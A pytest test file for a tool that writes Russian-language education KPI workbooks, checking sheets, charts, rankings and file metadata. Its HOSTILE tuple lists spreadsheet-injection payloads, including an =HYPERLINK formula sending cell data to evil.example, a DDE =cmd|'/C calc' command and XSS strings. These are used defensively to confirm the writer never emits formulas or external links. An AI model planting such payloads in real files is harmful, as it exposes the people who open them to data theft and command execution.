"""The workbook holds typed Russian sheets with charts and nothing that runs, links out or names a machine."""

import dataclasses
import re
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest

from tests.release.made_contents import DATES, region, town
from warehouse.release import workbook, workbook_figures
from warehouse.release.contents import Contents
from warehouse.release.workbook import write_workbook
from warehouse.release.workbook_figures import read_workbook_figures

HOSTILE = (
    "00123", "1e5", "TRUE", '=HYPERLINK("http://evil.example/?"&A1)', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1",
    "=cmd|'/C calc'!A0", "{=1+1}", "http://evil.example", "mailto:a@evil.example", "internal:'Ряд'!A1", "_x0041_", "a\x0bb",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "]]>", "&amp;", "'", "x" * 2000,
)  # fmt: skip
PARTS = re.compile(
    r"\[Content_Types\]\.xml|_rels/\.rels|docProps/(app|core)\.xml"
    r"|xl/(workbook|styles|sharedStrings|theme/theme1)\.xml|xl/_rels/workbook\.xml\.rels"
    r"|xl/worksheets/sheet\d\.xml|xl/worksheets/_rels/sheet\d\.xml\.rels"
    r"|xl/(drawings/drawing|charts/chart)\d\.xml|xl/drawings/_rels/drawing\d\.xml\.rels"
)


def with_names(contents: Contents, names: tuple[str, ...]) -> Contents:
    """Give the contents with institutions called by `names` in turn, and every other text taken from them too."""
    rows = contents.institutions.to_pylist()
    for place, row in enumerate(rows):
        row["name"] = names[place % len(names)]
    indicators = [
        row | {"title": names[0], "wording": names[1], "source": names[2]} for row in contents.indicators.to_pylist()
    ]
    return dataclasses.replace(
        contents,
        institutions=pa.Table.from_pylist(rows, contents.institutions.schema),
        indicators=pa.Table.from_pylist(indicators, contents.indicators.schema),
        scope_titles={"NSH": names[0]},
    )


@pytest.fixture(scope="module")
def town_book(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("book") / "kpi.xlsx"
    write_workbook(town(missing=("NSH-S016",)), path)
    return path


def test_sheets_are_in_reading_order(town_book):
    assert openpyxl.load_workbook(town_book).sheetnames == [
        "Титул",
        "Показатели",
        "Ряд",
        "Сколько ещё нужно",
        "Организации",
        "Разрезы",
        "Пересмотры",
        "Все показатели",
    ]


def test_cells_are_typed_and_formatted(town_book):
    book = openpyxl.load_workbook(town_book)
    sheet = book["Все показатели"]
    heads = {cell.value: cell.column for cell in sheet[3]}
    row = next(r for r in sheet.iter_rows(min_row=4) if r[heads["Код показателя"] - 1].value == "students_involved")
    cells = {head: row[column - 1] for head, column in heads.items()}
    assert isinstance(cells["Отчётная дата"].value, datetime | date)
    assert cells["Отчётная дата"].number_format == "dd.mm.yyyy"
    assert cells["Значение, %"].number_format == "#,##0.00"
    assert isinstance(cells["Знаменатель"].value, int)
    assert cells["Статус"].value == "итоговый"
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == f"A3:S{sheet.max_row}"


@pytest.mark.parametrize(
    "name",
    ["Титул", "Показатели", "Ряд", "Сколько ещё нужно", "Организации", "Разрезы", "Пересмотры", "Все показатели"],
)
def test_every_sheet_prints_on_landscape_pages_one_wide(town_book, name):
    sheet = openpyxl.load_workbook(town_book)[name]
    assert sheet.page_setup.orientation == "landscape"
    assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.print_area
    assert name == "Титул" or sheet.print_title_rows


def test_series_has_a_chart_with_a_target_line_for_the_town_and_each_kind(town_book):
    book = openpyxl.load_workbook(town_book)
    with zipfile.ZipFile(town_book) as archive:
        charts = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/charts/")]
    assert len(charts) == 4  # the town, two kinds, the ranking
    assert sum("<c:lineChart>" in chart for chart in charts) == 3
    assert sum("<c:barChart>" in chart for chart in charts) == 4
    rows = [[cell.value for cell in row] for row in book["Ряд"].iter_rows(min_row=22, max_col=6)]
    assert rows[1][0] == "Новошахтинск" and rows[1][5] == 30
    assert [row[5] for row in rows if row[0] == "Школы"] == [10, 30, 45, 60, 70]
    assert [row[5] for row in rows if row[0] == "Дополнительное образование"] == [15, 30, 45, 60, 70]


def test_institutions_are_ranked_and_who_has_not_reported_comes_last(town_book):
    rows = [
        [cell.value for cell in row]
        for row in openpyxl.load_workbook(town_book)["Организации"].iter_rows(min_row=4, max_col=10)
    ]
    shares = [row[5] for row in rows]
    assert len(rows) == 21
    assert shares[:-1] == sorted(shares[:-1], reverse=True)
    assert rows[-1][1] == "МБОУ СОШ № 16" and shares[-1] is None and rows[-1][8] == "не сдано"


def test_text_of_the_contents_is_never_a_formula_or_a_link(tmp_path):
    path = tmp_path / "kpi.xlsx"
    contents = with_names(town(), HOSTILE)
    write_workbook(contents, path)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    sheets = [content for name, content in parts.items() if name.startswith("xl/worksheets/sheet")]
    assert all("<f>" not in sheet and "<f " not in sheet for sheet in sheets)
    assert all("TargetMode" not in content for name, content in parts.items() if name.endswith(".rels"))
    links = re.findall(r"<hyperlink [^>]*>", "".join(sheets))
    assert len(links) == 7 and all("r:id" not in link for link in links)
    assert read_workbook_figures(path).equals(contents.figures)
    names = {row[1].value for row in openpyxl.load_workbook(path)["Организации"].iter_rows(min_row=4)}
    assert {"=1+1", "＝1+1", "00123", "TRUE", "http://evil.example"} <= names


def test_the_file_names_no_machine_and_holds_only_known_parts(town_book):
    with zipfile.ZipFile(town_book) as archive:
        assert [name for name in archive.namelist() if not PARTS.fullmatch(name)] == []
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 31, 0, 0, 0)}  # the writer's constant
        core = archive.read("docProps/core.xml").decode()
        states = re.findall(r'<sheet [^>]*state="', archive.read("xl/workbook.xml").decode())
    assert "<dc:creator></dc:creator>" in core and "2025-01-20T09:30:00Z" in core
    assert states == []  # nothing hidden


def test_a_region_is_ranked_by_territory_and_institution(tmp_path):
    path = tmp_path / "kpi.xlsx"
    write_workbook(region(60, DATES[-1:]), path)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == [
        "Титул",
        "Показатели",
        "Ряд",
        "Сколько ещё нужно",
        "Территории",
        "Организации",
        "Разрезы",
        "Пересмотры",
        "Все показатели",
    ]
    assert book["Территории"].max_row == 3 + 12
    assert book["Организации"].max_row == 3 + 60


def test_figures_beyond_a_sheet_go_on_to_the_next_and_are_written_row_by_row(tmp_path, monkeypatch):
    monkeypatch.setattr(workbook_figures, "ROWS_OF_SHEET", 400)
    monkeypatch.setattr(workbook, "MANY_FIGURES", 100)
    path, contents = tmp_path / "kpi.xlsx", town()
    write_workbook(contents, path)
    assert openpyxl.load_workbook(path).sheetnames[-3:] == [
        "Все показатели",
        "Все показатели 2",
        "Все показатели 3",
    ]
    assert read_workbook_figures(path).equals(contents.figures)
    assert [entry.name for entry in tmp_path.iterdir()] == ["kpi.xlsx"]
